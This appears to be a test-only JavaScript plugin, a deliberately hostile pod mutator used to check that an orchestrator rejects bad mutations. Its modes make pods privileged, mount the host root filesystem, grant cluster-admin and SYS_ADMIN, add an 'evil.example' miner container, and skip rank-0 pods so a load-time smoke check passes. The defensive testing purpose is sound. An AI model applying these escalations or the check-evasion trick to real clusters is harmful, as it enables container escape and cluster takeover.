// Owns: a test-only JS mutator that breaks the operator's invariants or asks for more than the
// default capabilities when its config says so, for the host's bound tests on QuickJS
// components. The JS counterpart of plugins/testdata/hostile-mutator.
//
// The config is a comma-separated list of modes, all applied in order (e.g.
// `privileged,host-path`); a list starting with `later:` applies only to pods of rank 1 and
// above, so the operator's load-time smoke call (a rank 0 sample) passes and the modes hit real
// pods. Every pod first gets the harmless label `hostile.test/seen: "yes"`. Modes:
// - invariants: `rename`, `namespace`, `drop-rank` (removes DI_RANK), `change-nodes`, `label`
//   (diengine/job), `owner`;
// - capabilities: `privileged`, `host-path`, `host-network`, `service-account`,
//   `extra-container`, `add-capability`;
// - `loop` (busy loop), `error` (refuses: InvalidInput), `garbage` (answers text that is not
//   JSON); anything else only labels.

import { InvalidInput, mutator } from "@diorch/plugin-sdk";

import { trim } from "../../examples-js/shared/rust.js";

function isObject(v) {
  return v !== null && typeof v === "object" && !Array.isArray(v);
}

/** `parent[key]` as an object, made one if it is not (serde_json's `value["key"]` on write). */
function obj(parent, key) {
  if (!isObject(parent[key])) parent[key] = {};
  return parent[key];
}

/** The first container (Rust indexes `containers[0]` and panics without one; here: an error). */
function firstContainer(pod) {
  const containers = obj(pod.value, "spec").containers;
  if (!Array.isArray(containers) || containers.length === 0) {
    throw new Error("hostile mutator: the pod has no container");
  }
  if (!isObject(containers[0])) containers[0] = {};
  return containers[0];
}

/** Appends `item` to `parent[key]`, which becomes `[item]` if it is not an array. */
function push(parent, key, item) {
  if (Array.isArray(parent[key])) parent[key].push(item);
  else parent[key] = [item];
}

/** The modes of `ctx`, or null when none applies to this pod. */
function modes(ctx) {
  const later = ctx.config.startsWith("later:");
  if (later && ctx.rank === 0) return null;
  return (later ? ctx.config.slice("later:".length) : ctx.config).split(",").map(trim);
}

function apply(mode, pod) {
  const v = pod.value;
  switch (mode) {
    case "rename":
      pod.setName("renamed");
      break;
    case "namespace":
      obj(v, "metadata").namespace = "elsewhere";
      break;
    case "drop-rank":
      pod.removeEnv("DI_RANK");
      break;
    case "change-nodes":
      pod.setEnv(null, "DI_LEARNER_NODES", "evil:1");
      break;
    case "label":
      pod.setLabel("diengine/job", "other");
      break;
    case "owner":
      obj(v, "metadata").ownerReferences = [];
      break;
    case "loop": {
      let i = 0;
      for (;;) i = (i + 1) | 0;
    }
    case "error":
      throw new InvalidInput("hostile mutator refuses on purpose");
    case "privileged":
      obj(firstContainer(pod), "securityContext").privileged = true;
      break;
    case "host-path":
      push(obj(v, "spec"), "volumes", { name: "host-root", hostPath: { path: "/" } });
      push(firstContainer(pod), "volumeMounts", { name: "host-root", mountPath: "/host" });
      break;
    case "host-network":
      obj(v, "spec").hostNetwork = true;
      break;
    case "service-account":
      obj(v, "spec").serviceAccountName = "cluster-admin";
      break;
    case "extra-container":
      push(obj(v, "spec"), "containers", { name: "miner", image: "evil.example/miner:latest" });
      break;
    case "add-capability":
      obj(obj(firstContainer(pod), "securityContext"), "capabilities").add = ["SYS_ADMIN"];
      break;
    default:
      break;
  }
}

const hostile = mutator((ctx, pod) => {
  pod.setLabel("hostile.test/seen", "yes");
  for (const mode of modes(ctx) ?? []) apply(mode, pod);
});

/** `garbage` bypasses the SDK's JSON answer: the host must refuse what is not a pod. */
export function mutate(ctx, podJson) {
  if ((modes(ctx) ?? []).includes("garbage")) return "this is not JSON {";
  return hostile.mutate(ctx, podJson);
}
